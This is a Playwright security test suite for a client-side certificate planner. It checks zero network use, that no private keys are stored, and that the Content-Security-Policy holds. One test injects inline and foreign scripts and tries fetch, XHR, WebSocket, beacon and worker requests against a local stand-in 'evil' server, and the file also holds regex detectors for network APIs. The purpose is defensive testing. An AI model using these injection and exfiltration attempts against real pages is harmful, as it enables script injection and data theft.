// The privacy guarantees, proven against the production build in Chromium:
// - zero network: a whole journey (every step, generate, download CSR/key/zip, save the plan, print) requests
//   nothing but the app's own static files, and after the load event only its lazy /assets/ chunks;
// - the CSP (header and <meta>) blocks what an attacker would inject: inline scripts and handlers, foreign
//   scripts, styles, images and frames, fetch/XHR/WebSocket/EventSource/sendBeacon/import(), even from a worker;
// - the key is never stored: no key material in localStorage, sessionStorage, IndexedDB, cookies, the URL or the
//   saved plan file; reloading forgets every key, and the page asked before it went;
// - no third-party code at run time: the built HTML, CSS and JS reference only same-origin files, and neither
//   the bundle nor our own source has a network API in it.

import { createPrivateKey } from "node:crypto";
import { readdirSync, readFileSync, statSync } from "node:fs";
import { createServer, type Server } from "node:http";
import type { AddressInfo } from "node:net";
import { join } from "node:path";
import { expect, type Page, test } from "@playwright/test";
import { unzipSync } from "fflate";
import {
  browserStorage,
  cspProblems,
  distFiles,
  expectNoKeyMaterial,
  expectPageAlive,
  keyNeedles,
  networkRequests,
  readDist,
  recordNetwork,
} from "./guard-helpers";
import {
  download,
  downloadUnencrypted,
  gotoStep,
  keyCard,
  STEP_NAMES,
  startPreset,
  tempDir,
} from "./helpers";

// the origin playwright.config.ts serves the build on
const ORIGIN = `http://127.0.0.1:${process.env.E2E_PORT ?? 4173}`;

/** A loopback server that counts every request: the "attacker" the page must never reach. */
async function canary(): Promise<{ url: string; hits: () => string[]; close: () => Promise<void> }> {
  const hits: string[] = [];
  const server: Server = createServer((req, res) => {
    hits.push(`${req.method} ${req.url}`);
    res.writeHead(200, { "Access-Control-Allow-Origin": "*", "Content-Type": "text/javascript" });
    res.end("window.__canaryRan = 1;");
  });
  await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
  const { port } = server.address() as AddressInfo;
  return {
    url: `http://127.0.0.1:${port}`,
    hits: () => [...hits],
    close: () =>
      new Promise((resolve) => {
        server.closeAllConnections();
        server.close(() => resolve());
      }),
  };
}

test("zero network: a whole journey requests only the app's own static files, and nothing but lazy chunks after load", async ({
  page,
}) => {
  const dir = tempDir();
  const log = recordNetwork(page);
  page.context().on("request", (r) => {
    // requests of other pages of the context (none expected: downloads are blobs, print opens no window)
    if (r.frame().page() !== page)
      log.requests.push({ url: r.url(), resourceType: "other-page", afterLoad: true });
  });
  // The print button calls window.print(). In Debian's Chromium a pending print job makes the PDF export
  // below fail ("Page is already being printed"): count the calls instead of opening the print job.
  await page.addInitScript(() => {
    const w = window as unknown as { __printCalls: number };
    w.__printCalls = 0;
    window.print = () => {
      w.__printCalls += 1;
    };
  });
  const response = await page.goto("/#start", { waitUntil: "load" });
  expect(response?.status()).toBe(200);
  await expectPageAlive(page);

  await startPreset(page, "SfB Edge");
  for (const step of STEP_NAMES) await gotoStep(page, step);
  await gotoStep(page, "Keys and CSRs");
  await page.getByRole("button", { name: "Generate all", exact: true }).click();
  await expect(page.getByText(/^2 keys and CSRs generated/)).toBeVisible({ timeout: 60_000 });
  const card = keyCard(page, "edge/external");
  await expect(card.getByText("self-signature verifies")).toBeVisible();
  await download(page, () => card.getByRole("button", { name: "Download CSR" }).click(), dir);
  await downloadUnencrypted(page, card.getByRole("button", { name: "Download key" }), dir);
  const zip = await download(
    page,
    () => page.getByRole("button", { name: "Download all (.zip)" }).click(),
    dir,
  );
  expect(Object.keys(unzipSync(new Uint8Array(readFileSync(zip.file)))).length).toBe(7);
  await download(page, () => page.getByRole("button", { name: "Save plan" }).click(), dir);
  await gotoStep(page, "Worksheet");
  // print: the button asks the browser to print, and a real print rendering to PDF makes no request either
  await page.getByRole("button", { name: "Print / Save as PDF" }).click();
  expect(await page.evaluate(() => (window as unknown as { __printCalls: number }).__printCalls)).toBe(1);
  await page.emulateMedia({ media: "print" });
  const pdf = await page.pdf({ format: "A4" });
  expect(pdf.byteLength).toBeGreaterThan(1000);
  await page.emulateMedia({ media: "screen" });
  // the Install step (after the CA answers) too, when the wizard has it
  const install = page
    .getByRole("navigation", { name: "Steps" })
    .getByRole("link", { name: "Install", exact: true });
  if ((await install.count()) > 0) {
    await install.click();
    await expect(page.getByRole("heading", { level: 2, name: "Install" })).toBeVisible();
  }
  // the idle prefetch and anything late would show up here
  await page.waitForTimeout(2000);

  const net = networkRequests(log);
  const foreign = net.filter((r) => !r.url.startsWith(`${ORIGIN}/`));
  expect(foreign, "requests to anything but the app's origin").toEqual([]);
  const notStatic = net.filter(
    (r) => !/^\/(?:(?:\?[^#]*)?|assets\/[\w.-]+\.(?:js|css)|favicon\.svg)$/.test(new URL(r.url).pathname),
  );
  expect(notStatic, "requests for anything but the app's static files").toEqual([]);
  const afterLoad = net.filter((r) => r.afterLoad);
  // after load: the lazy chunks, and the icon that Chromium itself fetches once the page has loaded
  const notChunks = afterLoad.filter(
    (r) => !/^\/(?:assets\/[\w.-]+\.(?:js|css)|favicon\.svg)$/.test(new URL(r.url).pathname),
  );
  expect(notChunks, "after load, only the lazy /assets/ chunks").toEqual([]);
  const chunkTypes = new Set(
    afterLoad.filter((r) => !r.url.endsWith("/favicon.svg")).map((r) => r.resourceType),
  );
  expect([...chunkTypes].filter((t) => t !== "script" && t !== "stylesheet")).toEqual([]);
  // the journey did load lazy chunks (the steps and the crypto layer), all same-origin
  expect(afterLoad.length).toBeGreaterThan(3);
  // downloads are blob: URLs, never network requests
  expect(log.requests.filter((r) => /^data:/.test(r.url) && r.resourceType !== "image")).toEqual([]);
  console.log(
    `zero network: ${net.length} requests, all same-origin static files; ${afterLoad.length} after load: ${afterLoad.map((r) => new URL(r.url).pathname).join(", ")}`,
  );
  expect(log.cspViolations, "no CSP violation during the journey").toEqual([]);
  expect(log.errors.filter((e) => !/favicon/.test(e))).toEqual([]);
});

test("the CSP is sent as a header and a <meta>, and blocks injected scripts and every way to reach the network", async ({
  page,
}) => {
  const evil = await canary();
  try {
    const log = recordNetwork(page);
    const response = await page.goto("/#start");
    await expectPageAlive(page);

    // the checker refuses weaker policies
    expect(
      cspProblems("default-src 'self'; script-src 'self' 'unsafe-inline'; connect-src 'self'"),
    ).toHaveLength(6);
    expect(
      cspProblems("default-src 'self'; connect-src 'none'; script-src 'self' https://cdn.example.com"),
    ).not.toEqual([]);
    // the policy itself: the header (with frame-ancestors, which only works as a header) and the <meta>
    const header = response?.headers()["content-security-policy"] ?? "";
    expect(cspProblems(header), `header: ${header}`).toEqual([]);
    expect(header).toContain("frame-ancestors 'none'");
    const meta = await page.evaluate(
      () =>
        document.querySelector('meta[http-equiv="Content-Security-Policy"]')?.getAttribute("content") ?? "",
    );
    expect(cspProblems(meta), `meta: ${meta}`).toEqual([]);

    // page.evaluate runs through the DevTools protocol, outside the CSP: it plays the attacker's foothold (an
    // HTML injection), and everything below is what such an injection would try
    await page.evaluate(() => {
      const w = window as unknown as { __violations: string[] };
      w.__violations = [];
      document.addEventListener("securitypolicyviolation", (e) =>
        w.__violations.push(`${e.effectiveDirective} ${e.blockedURI}`),
      );
    });
    const outcome = await page.evaluate(async (evilUrl) => {
      const w = window as unknown as Record<string, unknown>;
      const settle = <T>(p: Promise<T>) =>
        p.then(
          () => "succeeded",
          (e: unknown) => `blocked: ${e instanceof Error ? e.name : String(e)}`,
        );
      const event = (target: EventTarget, ok: string, fail: string, ms = 3000) =>
        new Promise<string>((resolve) => {
          target.addEventListener(ok, () => resolve("succeeded"));
          target.addEventListener(fail, () => resolve("blocked: error event"));
          setTimeout(() => resolve("blocked: nothing happened"), ms);
        });
      const out: Record<string, string> = {};

      // an inline script, an inline event handler, a data: script and a foreign script
      const inline = document.createElement("script");
      inline.textContent = "window.__pwned = 1";
      document.body.append(inline);
      const img = document.createElement("img");
      img.setAttribute("onerror", "window.__pwnedHandler = 1");
      img.src = "data:image/png;base64,AAAA";
      document.body.append(img);
      const dataScript = document.createElement("script");
      dataScript.src = "data:text/javascript,window.__pwnedData=1";
      const dataDone = event(dataScript, "load", "error");
      document.body.append(dataScript);
      out["data: script"] = await dataDone;
      const foreign = document.createElement("script");
      foreign.src = `${evilUrl}/script.js`;
      const foreignDone = event(foreign, "load", "error");
      document.body.append(foreign);
      out["foreign script"] = await foreignDone;
      out["foreign import()"] = await settle(import(/* @vite-ignore */ `${evilUrl}/module.js`));
      try {
        // biome-ignore lint/security/noGlobalEval: proving that the CSP blocks eval
        out.eval = String(globalThis.eval("6 * 7"));
      } catch (e) {
        out.eval = `blocked: ${e instanceof Error ? e.name : String(e)}`;
      }
      try {
        out["new Function"] = String(new Function("return 6 * 7")());
      } catch (e) {
        out["new Function"] = `blocked: ${e instanceof Error ? e.name : String(e)}`;
      }

      // every way to talk to a server: same origin and foreign
      out["fetch same-origin"] = await settle(fetch("/"));
      out["fetch foreign"] = await settle(fetch(`${evilUrl}/fetch`, { mode: "no-cors" }));
      out.XMLHttpRequest = await new Promise<string>((resolve) => {
        try {
          const x = new XMLHttpRequest();
          x.open("GET", `${evilUrl}/xhr`);
          x.onload = () => resolve("succeeded");
          x.onerror = () => resolve("blocked: error event");
          x.send();
        } catch (e) {
          resolve(`blocked: ${e instanceof Error ? e.name : String(e)}`);
        }
      });
      try {
        const ws = new WebSocket(`${evilUrl.replace("http", "ws")}/ws`);
        out.WebSocket = await event(ws, "open", "error");
      } catch (e) {
        out.WebSocket = `blocked: ${e instanceof Error ? e.name : String(e)}`;
      }
      try {
        const es = new EventSource(`${evilUrl}/events`);
        out.EventSource = await event(es, "open", "error");
        es.close();
      } catch (e) {
        out.EventSource = `blocked: ${e instanceof Error ? e.name : String(e)}`;
      }
      // sendBeacon only queues (true); the CSP check happens when it is sent: the canary proves it never arrives
      out.sendBeacon = navigator.sendBeacon(`${evilUrl}/beacon`, "x")
        ? "blocked: queued, never delivered"
        : "blocked: refused";
      const pixel = new Image();
      const pixelDone = event(pixel, "load", "error");
      pixel.src = `${evilUrl}/pixel.png`;
      out["foreign image"] = await pixelDone;
      const css = document.createElement("link");
      css.rel = "stylesheet";
      css.href = `${evilUrl}/style.css`;
      const cssDone = event(css, "load", "error");
      document.head.append(css);
      out["foreign stylesheet"] = await cssDone;
      const frame = document.createElement("iframe");
      frame.src = `${evilUrl}/frame.html`;
      document.body.append(frame);

      // a worker made from a blob is refused (worker-src 'self' only; the app's worker is a same-origin file),
      // and would inherit the policy anyway: it could not fetch either
      out["fetch from a blob: worker"] = await new Promise<string>((resolve) => {
        const src = `fetch(${JSON.stringify(`${evilUrl}/worker`)}, { mode: "no-cors" }).then(() => postMessage("succeeded"), (e) => postMessage("blocked: " + e.name));`;
        try {
          const worker = new Worker(URL.createObjectURL(new Blob([src], { type: "text/javascript" })));
          worker.onmessage = (m) => resolve(String(m.data));
          worker.onerror = () => resolve("blocked: worker error");
        } catch (e) {
          resolve(`blocked: ${e instanceof Error ? e.name : String(e)}`);
        }
        setTimeout(() => resolve("blocked: nothing happened"), 3000);
      });
      await new Promise((r) => setTimeout(r, 500));
      out.flags = JSON.stringify({
        inline: w.__pwned,
        handler: w.__pwnedHandler,
        data: w.__pwnedData,
        canary: w.__canaryRan,
      });
      return out;
    }, evil.url);

    console.log(`injection attempts: ${JSON.stringify(outcome, null, 1)}`);
    for (const [what, result] of Object.entries(outcome)) {
      if (what === "flags") continue;
      expect(result, what).toMatch(/^blocked/);
    }
    expect(outcome.flags, "no injected script ran").toBe("{}");
    expect(evil.hits(), "requests that reached the foreign server").toEqual([]);

    const violations = await page.evaluate(
      () => (window as unknown as { __violations: string[] }).__violations,
    );
    const directives = new Set(violations.map((v) => v.split(" ")[0]));
    for (const d of [
      "script-src-elem",
      "script-src-attr",
      "connect-src",
      "img-src",
      "style-src-elem",
      "frame-src",
    ])
      expect([...directives], `a ${d} violation was reported`).toContain(d);
    expect(log.cspViolations.length).toBeGreaterThanOrEqual(6);
    // the app is unharmed
    await expectPageAlive(page);
    await startPreset(page, "Custom");
  } finally {
    await evil.close();
  }
});

async function setKeyPassphrase(page: Page, id: string, passphrase: string): Promise<void> {
  const card = keyCard(page, id);
  await card.getByLabel("Passphrase", { exact: true }).fill(passphrase);
  await card.getByLabel("Repeat the passphrase").fill(passphrase);
}

test("the key is never stored: no key material in any browser storage, the URL or the plan file; a reload forgets it after asking", async ({
  page,
}) => {
  const dir = tempDir();
  await page.goto("/#start");
  await startPreset(page, "SfB Edge");
  await gotoStep(page, "Keys and CSRs");
  // one RSA and one ECDSA key
  await keyCard(page, "edge/internal").getByLabel("Key").selectOption("ECDSA-P-256");
  await expect(keyCard(page, "edge/internal").getByLabel("Key")).toHaveValue("ECDSA-P-256");
  await expect(keyCard(page, "edge/external").getByLabel("Key")).toHaveValue(/^RSA-/);
  await page.getByRole("button", { name: "Generate all", exact: true }).click();
  await expect(page.getByText(/^2 keys and CSRs generated/)).toBeVisible({ timeout: 60_000 });

  const keys: Record<string, string> = {};
  for (const id of ["edge/external", "edge/internal"]) {
    const card = keyCard(page, id);
    const button = card.getByRole("button", { name: "Download key" });
    // unencrypted: the page asks the first time only
    const k =
      id === "edge/external"
        ? await downloadUnencrypted(page, button, dir)
        : await download(page, () => button.click(), dir);
    keys[id] = readFileSync(k.file, "utf8");
    expect(keys[id]).toContain("-----BEGIN PRIVATE KEY-----");
  }
  const needles = [
    ...keyNeedles(keys["edge/external"] as string, "RSA key"),
    ...keyNeedles(keys["edge/internal"] as string, "ECDSA key"),
  ];
  // the scan finds a key where there is one: the PEM, its body alone, a fragment of it, its JWK
  const rsaBody = (keys["edge/external"] as string).split("\n").slice(1, -2).join("");
  const ecJwk = JSON.stringify(createPrivateKey(keys["edge/internal"] as string).export({ format: "jwk" }));
  for (const probe of [keys["edge/internal"] as string, rsaBody, rsaBody.slice(200, 300), ecJwk])
    expect(() => expectNoKeyMaterial({ probe: `{"x":"${probe}"}` }, needles)).toThrow();
  // the external key is written again, encrypted: it is "not downloaded" once more, so leaving asks first
  const passphrase = "Tr0ub4dor&3-never-stored";
  await setKeyPassphrase(page, "edge/external", passphrase);
  await keyCard(page, "edge/external")
    .getByRole("button", { name: "Encrypt the key file with this passphrase" })
    .click();
  await expect(keyCard(page, "edge/external").getByText("key not downloaded")).toBeVisible();

  const saved = await download(page, () => page.getByRole("button", { name: "Save plan" }).click(), dir);
  const planFile = readFileSync(saved.file, "utf8");
  expect(JSON.parse(planFile).format).toBe("san-planner/plan");

  const before = await browserStorage(page);
  expect(before.localStorage).toContain("san-planner/plan");
  expectNoKeyMaterial({ ...before, "the saved plan file": planFile }, needles, [passphrase]);

  // reload: the page asks first (a key is not downloaded); accepting forgets every key
  const dialogs: string[] = [];
  page.on("dialog", (d) => {
    dialogs.push(d.type());
    void d.accept();
  });
  await page.reload();
  expect(dialogs).toEqual(["beforeunload"]);
  await expectPageAlive(page);
  await expect(page.getByRole("heading", { level: 2, name: "Keys and CSRs" })).toBeVisible();
  await expect(page.getByText("2 certificates · 0 generated")).toBeVisible();
  for (const id of ["edge/external", "edge/internal"]) {
    await expect(keyCard(page, id).getByText("not generated", { exact: true })).toBeVisible();
    await expect(keyCard(page, id).getByRole("button", { name: "Download key" })).toHaveCount(0);
  }
  // the plan itself survived the reload
  await expect(page.locator(".plan-name")).toHaveText("Contoso Skype for Business Edge");
  const after = await browserStorage(page);
  expectNoKeyMaterial(after, needles, [passphrase]);
});

// ---------------------------------------------------------------- no third-party code at run time

const FOREIGN = /^(?:[a-z][a-z0-9+.-]*:)?\/\//i;

/** src/href/url() references in HTML and CSS that leave the origin (data: and blob: stay in the page). */
function foreignReferences(html: string, css: string): string[] {
  const out: string[] = [];
  for (const m of html.matchAll(
    /<([a-z]+)\b[^>]*?\b(src|href|action|srcset|poster|data)\s*=\s*["']?([^"'\s>]+)/gi,
  ))
    if (FOREIGN.test(m[3] as string)) out.push(`<${m[1]} ${m[2]}="${m[3]}">`);
  for (const m of html.matchAll(/<(base|iframe|object|embed|frame)\b/gi)) out.push(`<${m[1]}> element`);
  for (const m of html.matchAll(/<meta[^>]+http-equiv=["']?refresh/gi)) out.push(m[0]);
  for (const m of css.matchAll(/url\(\s*["']?([^"')]+)/gi))
    if (FOREIGN.test(m[1] as string)) out.push(`url(${m[1]})`);
  for (const m of css.matchAll(/@import\s+(?:url\()?\s*["']?([^"')\s;]+)/gi)) out.push(`@import ${m[1]}`);
  return out;
}

/** Network APIs and imports from another origin in JavaScript (strings such as citation links are fine: the
 *  user follows them, the code never does). */
const JS_NETWORK: { what: string; re: RegExp }[] = [
  { what: "fetch()", re: /(?<![\w$.])fetch\s*\(|\.fetch\s*\(/ },
  { what: "XMLHttpRequest", re: /\bXMLHttpRequest\b/ },
  { what: "WebSocket", re: /\bWebSocket\b/ },
  { what: "EventSource", re: /\bEventSource\b/ },
  { what: "sendBeacon", re: /\bsendBeacon\b/ },
  { what: "importScripts", re: /\bimportScripts\b/ },
  { what: "import() of another origin", re: /\bimport\s*\(\s*["'`](?:[a-z]+:)?\/\//i },
  { what: "static import of another origin", re: /\b(?:from|import)\s*["'`](?:[a-z]+:)?\/\//i },
  { what: "script/img src set to another origin", re: /\.src\s*=\s*["'`](?:https?:)?\/\//i },
];

function jsNetworkUse(js: string): string[] {
  const out: string[] = [];
  for (const { what, re } of JS_NETWORK) {
    const m = re.exec(js);
    if (m) out.push(`${what}: …${js.slice(Math.max(0, m.index - 40), m.index + 60)}…`);
  }
  return out;
}

test("no third-party code at run time: the build references only same-origin files and has no network API", () => {
  const files = distFiles();
  expect(files).toContain("index.html");
  expect(files).toContain("san-planner.html");
  // the scanners see what they must refuse
  expect(foreignReferences('<script src="https://cdn.example.com/x.js"></script>', "")).toHaveLength(1);
  expect(foreignReferences('<link rel="stylesheet" href="//fonts.example.com/a.css">', "")).toHaveLength(1);
  expect(foreignReferences("", "@font-face{src:url(https://fonts.example.com/f.woff2)}")).toHaveLength(1);
  for (const js of [
    'fetch("/x")',
    "new XMLHttpRequest()",
    'import("https://cdn.example.com/m.js")',
    "navigator.sendBeacon(u)",
  ])
    expect(jsNetworkUse(js), js).toHaveLength(1);
  const problems: string[] = [];
  for (const f of files) {
    if (f.endsWith(".svg")) continue;
    const text = readDist(f);
    if (f.endsWith(".html")) {
      // the single file inlines its script and style: scan them as JS and CSS, the rest as HTML
      const scripts = [...text.matchAll(/<script\b[^>]*>([\s\S]*?)<\/script>/gi)].map((m) => m[1] ?? "");
      const styles = [...text.matchAll(/<style\b[^>]*>([\s\S]*?)<\/style>/gi)].map((m) => m[1] ?? "");
      const html = text
        .replace(/<script\b[^>]*>[\s\S]*?<\/script>/gi, "<script></script>")
        .replace(/<style\b[^>]*>[\s\S]*?<\/style>/gi, "<style></style>");
      problems.push(...foreignReferences(html, styles.join("\n")).map((p) => `${f}: ${p}`));
      for (const s of scripts) problems.push(...jsNetworkUse(s).map((p) => `${f} (inline script): ${p}`));
      // every <script> and stylesheet of the hosted page is a same-origin file of dist/
      for (const m of html.matchAll(/<(?:script|link)\b[^>]*\b(?:src|href)=["']([^"']+)["']/gi)) {
        const ref = m[1] as string;
        if (ref.startsWith("data:")) continue;
        if (!files.includes(ref.replace(/^\//, ""))) problems.push(`${f}: ${ref} is not a file of the build`);
      }
    } else if (f.endsWith(".css")) {
      problems.push(...foreignReferences("", text).map((p) => `${f}: ${p}`));
    } else if (f.endsWith(".js")) {
      problems.push(...jsNetworkUse(text).map((p) => `${f}: ${p}`));
    }
  }
  expect(problems).toEqual([]);
});

test("no network API in our own source (everything that is bundled: src/, tests and test tools excepted)", () => {
  const problems: string[] = [];
  const walk = (d: string) => {
    for (const name of readdirSync(d)) {
      const p = join(d, name);
      if (statSync(p).isDirectory()) {
        if (name !== "testing") walk(p);
      } else if (/\.(ts|tsx)$/.test(name) && !/\.test\.tsx?$|test-helpers|\.d\.ts$/.test(name)) {
        const src = readFileSync(p, "utf8").replace(/^\s*\/\/.*$|\/\*[\s\S]*?\*\//gm, "");
        problems.push(...jsNetworkUse(src).map((x) => `${p}: ${x}`));
      }
    }
  };
  walk("src");
  expect(problems).toEqual([]);
});
